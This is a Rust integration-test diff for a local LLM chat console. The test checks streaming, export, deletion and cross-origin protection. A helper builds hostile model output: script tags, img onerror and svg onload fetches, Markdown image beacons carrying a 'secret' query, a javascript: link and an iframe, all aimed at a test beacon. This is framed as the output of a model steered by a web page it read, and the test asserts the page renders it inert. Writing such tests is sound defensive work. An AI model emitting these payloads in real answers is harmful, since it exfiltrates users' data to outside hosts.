@@ -1041,6 +1041,166 @@ fn the_console_in_chromium_approves_once_and_refuses_forgeries() {
     assert!(verify.status.success(), "{}", String::from_utf8_lossy(&verify.stdout));
 }
 
+/// What model output may carry to make a browser fetch: a script, raw images, Markdown image
+/// beacons, a `javascript:` link, a frame; each points at `beacon`.
+fn hostile_answer(beacon: &str) -> String {
+    format!(
+        "Here is your summary.\n\n<script src=\"{beacon}/script.js\"></script><script>fetch('{beacon}/inline')</script>\n\
+         <img src=\"{beacon}/img\" onerror=\"fetch('{beacon}/onerror')\">\n\n\
+         ![]({beacon}/?q=secret) and ![logo]({beacon}/logo.png)\n\n\
+         [click me](javascript:fetch('{beacon}/js')) <iframe src=\"{beacon}/frame\"></iframe>\n\n\
+         &lt;script&gt; stays text, and so does <svg onload=\"fetch('{beacon}/svg')\"></svg>\n\n\
+         ```html\n<img src=\"{beacon}/in-code\">\n```\n"
+    )
+}
+
+#[test]
+fn the_chat_page_in_chromium_streams_stops_regenerates_exports_and_renders_model_output_inert() {
+    let server = Server::start("");
+    let beacon = Sink::start(String::new());
+    let attacker = Sink::start(String::new());
+    // A conversation whose stored answer is hostile model output, as a model steered by a web
+    // page it read would write it.
+    let hostile = {
+        let store = sov_core::store::Store::open(&server.home.path().join("data/sovereign.db")).unwrap();
+        let c = sov_console::conversations::create(&store, "smollm2", 0.0, sov_core::now_ms()).unwrap();
+        let message = |role, content: String| sov_console::conversations::Message {
+            seq: 0,
+            role,
+            content,
+            model: Some("smollm2".into()),
+            finish: None,
+            stats: None,
+            created_ms: 0,
+        };
+        let now = sov_core::now_ms();
+        sov_console::conversations::append(
+            &store,
+            &c.id,
+            &message(sov_console::conversations::Role::User, "Summarise the page I read".into()),
+            now,
+        )
+        .unwrap();
+        sov_console::conversations::append(
+            &store,
+            &c.id,
+            &message(sov_console::conversations::Role::Assistant, hostile_answer(&beacon.base)),
+            now,
+        )
+        .unwrap();
+        let settings = sov_console::conversations::Settings {
+            title: String::new(),
+            model: "smollm2".into(),
+            system_prompt: String::new(),
+            temperature: 0.0,
+            max_tokens: 40,
+        };
+        sov_console::conversations::update(&store, &c.id, &settings, now).unwrap();
+        c.id
+    };
+    let out = server.sov(&["console"]);
+    let link = String::from_utf8(out.stdout).unwrap().trim().to_owned();
+    let screenshots = std::env::var_os("SOV_SCREENSHOTS")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| tempfile::Builder::new().prefix("sov-chat-screenshots-").tempdir().unwrap().keep());
+    std::fs::create_dir_all(&screenshots).unwrap();
+    let node_modules = std::env::var("SOV_TEST_NODE_MODULES")
+        .unwrap_or_else(|_| format!("{}/.cache/sovereign/node/node_modules", std::env::var("HOME").unwrap()));
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/clients/chat_browser.js");
+    let out = Command::new("node")
+        .arg(&script)
+        .env("NODE_PATH", &node_modules)
+        .env("CONSOLE", &server.console)
+        .env("LINK", &link)
+        .env("HOSTILE", &hostile)
+        .env("BEACON", &beacon.base)
+        .env("ATTACKER", format!("{}/page", attacker.base))
+        .env("SCREENSHOTS", &screenshots)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "the browser run failed (is chromium installed and playwright-core in {node_modules}?):\n{}\n{}\n{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+        server.log()
+    );
+    let seen: Value = serde_json::from_slice(&out.stdout).unwrap();
+    eprintln!("chat page screenshots: {}", screenshots.display());
+    eprintln!("{}", serde_json::to_string_pretty(&seen).unwrap());
+
+    // Without the cookie: the login page, nothing of the chat.
+    assert_eq!(seen["no_cookie_status"], 303, "{seen}");
+    assert_eq!(seen["no_cookie_location"], "/login?next=/chat", "{seen}");
+    assert_eq!(seen["no_cookie_path"], "/login", "{seen}");
+    assert_eq!(seen["no_cookie_shows_messages"], false, "{seen}");
+
+    // The served local models are offered; the conversation streams, stops, regenerates.
+    assert_eq!(seen["models"], json!(["gemma3", "smollm2"]), "{seen}");
+    assert!(seen["first_updates"].as_u64().unwrap() >= 3, "the answer did not stream: {seen}");
+    assert!(seen["first_answer"].as_str().unwrap().len() > 10, "{seen}");
+    let stats = seen["first_stats"].as_str().unwrap();
+    assert!(
+        stats.starts_with("Prompt: ") && stats.contains(" tokens, ") && stats.contains(" t/s · Answer: "),
+        "{stats}"
+    );
+    assert!(seen["stopped_classes"].as_str().unwrap().contains("finish-stopped"), "{seen}");
+    assert!(seen["stopped_stats"].as_str().unwrap().starts_with("Stopped."), "{seen}");
+    assert!(seen["stopped_text_length"].as_u64().unwrap() > 20, "{seen}");
+    let regenerated = seen["regenerated_classes"].as_str().unwrap();
+    assert!(regenerated.contains("finish-stop") || regenerated.contains("finish-length"), "{seen}");
+    assert_eq!(seen["messages_after_regenerate"], 4, "{seen}");
+
+    // After a reload it is listed under its new name, all there.
+    assert_eq!(seen["listed_after"][0], "Sea and dragons", "{seen}");
+    assert_eq!(seen["messages_after_reload"], 4, "{seen}");
+    assert_eq!(seen["roles_after_reload"], json!(["user", "assistant", "user", "assistant"]), "{seen}");
+
+    // Exports.
+    let id = seen["conversation"].as_str().unwrap();
+    assert_eq!(seen["export_markdown_name"], format!("conversation-{id}.md"), "{seen}");
+    let md = seen["export_markdown"].as_str().unwrap();
+    assert!(md.starts_with("# Sea and dragons\n\n- model: smollm2\n"), "{md}");
+    assert!(md.contains("## You\n\nWrite one sentence about the sea.\n"), "{md}");
+    assert!(md.contains("## System prompt\n\nYou are a helpful assistant.\n"), "{md}");
+    let json_export: Value = serde_json::from_str(seen["export_json"].as_str().unwrap()).unwrap();
+    assert_eq!(json_export["conversation"]["title"], "Sea and dragons");
+    assert_eq!(json_export["messages"].as_array().unwrap().len(), 4);
+    assert_eq!(json_export["messages"][3]["model"], "smollm2");
+    assert!(json_export["messages"][3]["stats"]["completion_tokens"].as_u64().unwrap() > 0, "{json_export}");
+
+    // A page on another origin cannot post into the conversation.
+    assert_eq!(seen["cross_origin_status"], 403, "{seen}");
+    assert_eq!(seen["messages_after_forgery"], 4, "{seen}");
+
+    // Hostile model output: no element that loads, no javascript: link, the text shown.
+    assert_eq!(seen["hostile_elements"], 0, "{seen}");
+    assert_eq!(seen["hostile_javascript_links"], 0, "{seen}");
+    assert_eq!(seen["hostile_links"], json!([]), "{seen}");
+    let text = seen["hostile_text"].as_str().unwrap();
+    assert!(
+        text.contains("<script src=") && text.contains("image not shown") && text.contains("&lt;script&gt;"),
+        "{text}"
+    );
+    assert_eq!(seen["live_elements"], 0, "{seen}");
+    assert_eq!(seen["copied"], json!(["Copied", format!("<img src=\"{}/in-code\">", beacon.base)]), "{seen}");
+    // Nothing was even tried: the Content-Security-Policy had nothing to block.
+    let errors = seen["console_errors"].as_array().unwrap();
+    assert!(!errors.iter().any(|e| e.as_str().unwrap().contains("Content Security Policy")), "{seen}");
+
+    // Deleted.
+    assert!(!seen["listed_after_delete"].as_array().unwrap().contains(&json!("Sea and dragons")), "{seen}");
+    assert_eq!(seen["deleted_status"], 404, "{seen}");
+
+    // Nothing reached the beacon but the test's own control request at the end; the
+    // attacker's page was served and posted, and that is all it got.
+    // (A page the browser opens gets its favicon asked for after it.)
+    let hits = |sink: &Sink| sink.hits().into_iter().filter(|p| p != "/favicon.ico").collect::<Vec<_>>();
+    assert_eq!(beacon.hits().first().map(String::as_str), Some("/control"), "model output made the browser fetch");
+    assert_eq!(hits(&beacon), ["/control"], "model output made the browser fetch");
+    assert_eq!(hits(&attacker), ["/page"]);
+}
+
 fn port_of(url: &str) -> String {
     url.rsplit(':').next().unwrap().to_owned()
 }
